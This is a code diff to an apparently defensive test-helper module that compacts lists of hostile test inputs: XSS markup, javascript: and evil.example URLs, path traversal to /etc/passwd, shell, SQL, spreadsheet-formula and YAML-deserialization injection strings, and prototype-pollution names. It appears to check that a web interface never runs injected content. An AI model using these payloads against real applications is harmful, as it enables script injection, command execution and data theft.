@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from typing import Any
 
 NAMES = [
@@ -21,161 +22,95 @@ NAMES = [
 ]
 
 HIT = "window.hit=1"
-_MARKUP = [
-    f"<script>{HIT}</script>",
-    f"</script><script>{HIT}</script>",
-    f"<ScRiPt>{HIT}</sCrIpT>",
-    "<script src=//evil.example/x.js></script>",
-    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
-    f"<svg><script>{HIT}</script></svg>",
-    f"<svg/onload={HIT}>",
-    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
-    f"<svg><a xlink:href='javascript:{HIT}'><text>x</text></a></svg>",
-    f"<svg><foreignObject><iframe onload={HIT}></foreignObject></svg>",
-    f"<svg><use href='data:image/svg+xml,<svg id=x onload={HIT}>#x'/></svg>",
-    f"<math><mtext><img src=x onerror={HIT}></mtext></math>",
-    f"<math href='javascript:{HIT}'>x</math>",
-    f"<math><mi//xlink:href='data:x,<script>{HIT}</script>'>",
-    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
-    f"<iframe src='javascript:parent.{HIT}'></iframe>",
-    f"<object data='javascript:{HIT}'></object>",
-    f"<embed src='javascript:{HIT}'>",
-    f"<link rel=stylesheet href='data:text/css,*{{display:none}}' onload={HIT}>",
-    "<link rel=preload as=script href=//evil.example/x.js>",
-    f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>",
-    "<base href=//evil.example/>",
-    f"<form action='javascript:{HIT}'><button>x</button></form>",
-    f"<button formaction='javascript:{HIT}'>x</button>",
-    f"<input autofocus onfocus={HIT}>",
-    f"<select autofocus onfocus={HIT}><option>x</select>",
-    f"<textarea autofocus onfocus={HIT}>",
-    f"<video src=x onerror={HIT}></video>",
-    f"<audio src=x onerror={HIT}></audio>",
-    f"<video><source onerror={HIT}></video>",
-    f"<details open ontoggle={HIT}>x</details>",
-    f"<marquee onstart={HIT}>x</marquee>",
-    f"<body onload={HIT}>",
-    f"<dialog open onclose={HIT}>x</dialog>",
-    f"<p style='animation:x' onanimationstart={HIT}>x</p>",
-    f"<a href='javascript:{HIT}'>x</a>",
+
+
+def texts(lines: str) -> list[str]:
+    """What stands in lines, with two spaces in between; HIT is what must not run."""
+    return re.split(r"\s\s+|\n", lines.strip().replace("HIT", HIT))
+
+
+_MARKUP = texts(
+    """
+<script>HIT</script>  </script><script>HIT</script>  <ScRiPt>HIT</sCrIpT>
+<script src=//evil.example/x.js></script>  <scr<script>ipt>HIT</scr</script>ipt>
+<svg><script>HIT</script></svg>  <svg/onload=HIT>
+<svg><animate onbegin=HIT attributeName=x dur=1s>
+<svg><a xlink:href='javascript:HIT'><text>x</text></a></svg>
+<svg><foreignObject><iframe onload=HIT></foreignObject></svg>
+<svg><use href='data:image/svg+xml,<svg id=x onload=HIT>#x'/></svg>
+<math><mtext><img src=x onerror=HIT></mtext></math>
+<math href='javascript:HIT'>x</math>
+<math><mi//xlink:href='data:x,<script>HIT</script>'>
+<iframe srcdoc='<script>parent.HIT</script>'></iframe>
+<iframe src='javascript:parent.HIT'></iframe>  <object data='javascript:HIT'></object>
+<embed src='javascript:HIT'>
+<link rel=stylesheet href='data:text/css,*{display:none}' onload=HIT>
+<link rel=preload as=script href=//evil.example/x.js>
+<meta http-equiv=refresh content='0;url=javascript:HIT'>  <base href=//evil.example/>
+<form action='javascript:HIT'><button>x</button></form>
+<button formaction='javascript:HIT'>x</button>  <input autofocus onfocus=HIT>
+<select autofocus onfocus=HIT><option>x</select>  <textarea autofocus onfocus=HIT>
+<video src=x onerror=HIT></video>  <audio src=x onerror=HIT></audio>
+<video><source onerror=HIT></video>  <details open ontoggle=HIT>x</details>
+<marquee onstart=HIT>x</marquee>  <body onload=HIT>  <dialog open onclose=HIT>x</dialog>
+<p style='animation:x' onanimationstart=HIT>x</p>  <a href='javascript:HIT'>x</a>
+<a href='&#106;avascript:HIT'>x</a>
+<noscript><p title='</noscript><img src=x onerror=HIT>'>
+<template><script>HIT</script></template>
+<template shadowrootmode=open><script>HIT</script></template>
+<!--><img src=x onerror=HIT>-->  <![CDATA[<script>HIT</script>]]>
+<?xml version='1.0'?><x onload=HIT>  </title><script>HIT</script>
+</textarea><script>HIT</script>  </style><script>HIT</script>
+</bdi></button></td><img src=x onerror=HIT>  <img src=x:x onerror=HIT//
+<img src='x'onerror=HIT>  <img srcset=x onerror=HIT>  "><img src=x onerror=HIT>
+'><img src=x onerror=HIT>  `><img src=x onerror=HIT>  ' onfocus='HIT' autofocus x='
+'-HIT-'  &lt;script&gt;HIT&lt;/script&gt;  &#60;script&#62;HIT&#60;/script&#62;
+%3Cscript%3EHIT%3C/script%3E  ＜script＞HIT＜/script＞
++ADw-script+AD4-HIT+ADw-/script+AD4-
+<style>@import '//evil.example/x.css';</style>
+<style>body{background:url(//evil.example/x)}</style>
+<b style='position:fixed;inset:0;z-index:9'>over all</b>  <plaintext>  <xmp>
+<x-y contenteditable>x</x-y>  <img src=//evil.example/pixel>
+"""
+)
+_MARKUP += [
     f"<a href='java\tscript:{HIT}'>x</a>",
-    f"<a href='&#106;avascript:{HIT}'>x</a>",
-    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
-    f"<template><script>{HIT}</script></template>",
-    f"<template shadowrootmode=open><script>{HIT}</script></template>",
-    f"<!--><img src=x onerror={HIT}>-->",
-    f"<![CDATA[<script>{HIT}</script>]]>",
-    f"<?xml version='1.0'?><x onload={HIT}>",
-    f"</title><script>{HIT}</script>",
-    f"</textarea><script>{HIT}</script>",
-    f"</style><script>{HIT}</script>",
-    f"</bdi></button></td><img src=x onerror={HIT}>",
-    f"<img src=x:x onerror={HIT}//",
-    f"<img src='x'onerror={HIT}>",
-    f"<img srcset=x onerror={HIT}>",
-    f'"><img src=x onerror={HIT}>',
-    f"'><img src=x onerror={HIT}>",
-    f"`><img src=x onerror={HIT}>",
     f'" onmouseover="{HIT}" x="',
-    f"' onfocus='{HIT}' autofocus x='",
     f'"-{HIT}-"',
-    f"'-{HIT}-'",
     f"\\'-{HIT}//",
-    f"&lt;script&gt;{HIT}&lt;/script&gt;",
-    f"&#60;script&#62;{HIT}&#60;/script&#62;",
     f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
-    f"%3Cscript%3E{HIT}%3C/script%3E",
-    f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e",
-    f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
-    "<style>@import '//evil.example/x.css';</style>",
-    "<style>body{background:url(//evil.example/x)}</style>",
-    "<b style='position:fixed;inset:0;z-index:9'>over all</b>",
-    "<plaintext>",
-    "<xmp>",
-    "<x-y contenteditable>x</x-y>",
-    "<img src=//evil.example/pixel>",
 ]
-_URLS = [
-    f"javascript:{HIT}",
-    f"JaVaScRiPt:{HIT}",
+_URLS = texts(
+    """
+javascript:HIT  JaVaScRiPt:HIT  javascript://x%0aHIT  vbscript:HIT
+data:text/html,<script>parent.HIT</script>
+data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==  blob:null/x
+//evil.example/x  http://evil.example/?a=<b>  file:///etc/passwd  ../../../../etc/passwd
+#/control/faults  ?token=x#token=y  %00%0d%0aSet-Cookie: x=y  %  %E0%A4%A
+"""
+)
+_URLS += [
     f"java\nscript:{HIT}",
     f"\x01javascript:{HIT}",
-    f"javascript://x%0a{HIT}",
-    f"vbscript:{HIT}",
-    f"data:text/html,<script>parent.{HIT}</script>",
-    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
-    "blob:null/x",
-    "//evil.example/x",
-    "http://evil.example/?a=<b>",
-    "file:///etc/passwd",
-    "../../../../etc/passwd",
     "..\\..\\windows",
-    "#/control/faults",
-    "?token=x#token=y",
-    "%00%0d%0aSet-Cookie: x=y",
     "\r\nX-Split: 1",
-    "%",
-    "%E0%A4%A",
 ]
-_TEMPLATES = [
-    "{{7*7}}",
-    "${7*7}",
-    f"${{{HIT}}}",
-    "#{7*7}",
-    "<%= 7*7 %>",
-    "{n} of {name}",
-    "{what} is armed.",
-    "{{constructor.constructor('window.hit=1')()}}",
-    "{% import os %}",
-    "%s %d %n",
-    "$& $1 $` $'",
-    "{0.__class__}",
-    "`id`",
-    "$(id)",
-    "; id #",
-    "| id",
-    "' OR 1=1 --",
-    '"; DROP TABLE chats; --',
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    "@SUM(1+1)",
-    "+1",
-    "-1",
-    '=HYPERLINK("//evil.example")',
-    "expression(window.hit=1)",
-    "}*{display:none",
-    "url(javascript:window.hit=1)",
-    "/*",
-    "*/",
-    "//",
-    "!!python/object/apply:os.system [id]",
-    "&anchor *alias",
-    "---",
-    "<<: *x",
-]
-_NAMES = [
-    "__proto__",
-    "constructor",
-    "prototype",
-    "toString",
-    "hasOwnProperty",
-    "valueOf",
-    "then",
-    "null",
-    "undefined",
-    "NaN",
-    "true",
-    "0",
-    "-0",
-    "1e309",
-    "[object Object]",
-    ".",
-    "..",
-    "content",
-    "drawer",
-    "live",
-    "hit",
-]
+_TEMPLATES = texts(
+    """
+{{7*7}}  ${7*7}  ${HIT}  #{7*7}  <%= 7*7 %>  {n} of {name}  {what} is armed.
+{{constructor.constructor('HIT')()}}  {% import os %}  %s %d %n  $& $1 $` $'
+{0.__class__}  `id`  $(id)  ; id #  | id  ' OR 1=1 --  "; DROP TABLE chats; --  =1+1
+=cmd|' /C calc'!A0  @SUM(1+1)  +1  -1  =HYPERLINK("//evil.example")  expression(HIT)
+}*{display:none  url(javascript:HIT)  /*  */  //  !!python/object/apply:os.system [id]
+&anchor *alias  ---  <<: *x
+"""
+)
+_NAMES = texts(
+    """
+__proto__  constructor  prototype  toString  hasOwnProperty  valueOf  then  null
+undefined  NaN  true  0  -0  1e309  .  ..  content  drawer  live  hit  [object Object]
+"""
+)
 _SIGNS = [
     "\u202egnp.exe\u202d",
     "\u2067\u05e9\u05dc\u05d5\u05dd\u2069",
@@ -239,7 +174,7 @@ OPEN_EACH = """async ([selector, panel]) => {
     let opened = 0;
     for (const each of document.querySelectorAll(selector)) {
         each.click();
-        for (let left = 200; left && !document.querySelector(panel); left--)
+        for (let left = 2_000; left && !document.querySelector(panel); left--)
             await rest(5);
         if (document.querySelector(panel)) opened++;
         document.querySelector(panel)?.querySelector(".top button")?.click();
